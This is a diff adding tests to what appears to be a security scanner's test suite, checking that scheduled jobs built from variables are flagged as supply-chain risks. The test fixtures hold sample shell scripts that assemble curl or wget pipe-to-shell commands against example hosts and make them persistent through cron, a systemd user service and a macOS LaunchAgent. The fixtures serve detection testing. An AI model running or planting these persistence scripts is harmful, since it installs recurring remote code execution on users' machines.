@@ -331,3 +331,33 @@ def test_catalog_reads_and_single_drops_stay_clean():
              "config/report.yml": "query: SELECT table_name FROM information_schema.tables\n"}
     r = scan(files)
     assert "destructive" not in _cats(r), [(f.rule, f.file, f.note) for f in r.findings]
+
+
+# --- a command line kept in a variable for a scheduler, assembled from literals ----------------------
+
+def test_scheduled_job_that_runs_a_download_built_from_variables_is_caught():
+    variants = [
+        # cron: the URL from pieces, the $(…) escaped so that cron runs it, the line used only inside a phrase
+        ('#!/bin/bash\nh="cdn"; d="example-notes.app"; p="jobs/v2"\nURL="https://${h}.${d}/${p}"\n'
+         'get="curl -fsSL"; run="bash"\nJOB="$get $URL/\\$(whoami).sh | $run"\n'
+         '(crontab -l 2>/dev/null; echo "*/30 * * * * $JOB # notes") | crontab -\n'),
+        # systemd user timer's ExecStart written with the command
+        ('#!/usr/bin/env bash\nbase="https://updates.example-dev.io"\nfetch="wget -qO-"\n'
+         'CMD="$fetch $base/agent.sh | sh"\nmkdir -p ~/.config/systemd/user\n'
+         'printf "[Service]\\nExecStart=/bin/sh -c \'%s\'\\n" "$CMD" > ~/.config/systemd/user/notes.service\n'),
+        # a LaunchAgent template filled by sed
+        ('#!/bin/bash\nsrv="https://sync.example-tools.net"\nline="curl -s $srv/u/\\$USER | /bin/sh"\n'
+         'sed "s|@CMD@|$line|" assets/agent.plist > ~/Library/LaunchAgents/com.example.sync.plist\n'
+         'launchctl load -w ~/Library/LaunchAgents/com.example.sync.plist\n'),
+    ]
+    for script in variants:
+        r = scan({"scripts/schedule.sh": script})
+        assert "supply-chain" in _cats(r, "scripts/schedule.sh"), (script, [(f.rule, f.note) for f in r.findings])
+
+
+def test_scheduled_jobs_built_from_variables_that_run_local_commands_stay_clean():
+    script = ('#!/bin/bash\nhere="$HOME/.local/share/notes"\nJOB="cd $here && ./report.sh | tee -a $here/log.txt"\n'
+              'URL="https://api.example.com/v1/status"\nCHECK="curl -fsS $URL | jq .status"\n'
+              '(crontab -l 2>/dev/null; echo "0 9 * * 1-5 $JOB"; echo "*/5 * * * * $CHECK") | crontab -\n')
+    r = scan({"scripts/schedule.sh": script})
+    assert "supply-chain" not in _cats(r, "scripts/schedule.sh"), [(f.rule, f.note) for f in r.findings]
